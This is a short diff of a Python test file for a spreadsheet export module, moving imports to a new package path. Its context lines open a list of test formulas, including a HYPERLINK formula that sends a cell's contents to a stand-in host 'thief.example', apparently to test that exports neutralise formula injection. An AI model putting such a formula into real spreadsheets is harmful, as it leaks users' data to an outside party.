@@ -12,8 +12,8 @@ from tempfile import TemporaryFile
 import openpyxl
 import pytest
 
-from igny8_core.common import spreadsheets
-from igny8_core.common.spreadsheets import Row, harmless, write_csv, write_xlsx
+from igny8_core.common.files import spreadsheets
+from igny8_core.common.files.spreadsheets import Row, harmless, write_csv, write_xlsx
 
 FORMULAS = [
     '=HYPERLINK("https://thief.example/?"&A1,"Open")',
